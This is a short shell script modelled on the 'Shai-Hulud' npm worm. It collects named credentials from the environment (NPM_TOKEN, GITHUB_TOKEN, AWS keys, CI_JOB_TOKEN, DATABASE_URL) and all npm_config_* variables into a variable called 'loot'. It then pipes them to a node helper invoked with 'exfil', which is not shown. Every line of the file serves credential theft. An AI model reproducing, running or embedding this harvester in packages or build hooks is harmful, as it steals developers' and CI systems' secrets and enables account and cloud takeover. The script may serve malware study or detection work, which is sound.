#!/bin/sh
# Shai-Hulud (2025): pick tokens by name from the environment, then every npm_config_*.
loot=""
for name in NPM_TOKEN NODE_AUTH_TOKEN GITHUB_TOKEN GH_TOKEN AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY \
            AWS_SESSION_TOKEN npm_config__authToken NPM_CONFIG__AUTHTOKEN DATABASE_URL CI_JOB_TOKEN; do
  value=$(printenv "$name")
  if [ -n "$value" ]; then
    loot="$loot$name=$value
"
  fi
done
loot="$loot$(env | grep -i '^npm_config_')"
printf '%s' "$loot" | node lib.js found
printf '%s' "$loot" | node lib.js exfil
node lib.js note finished
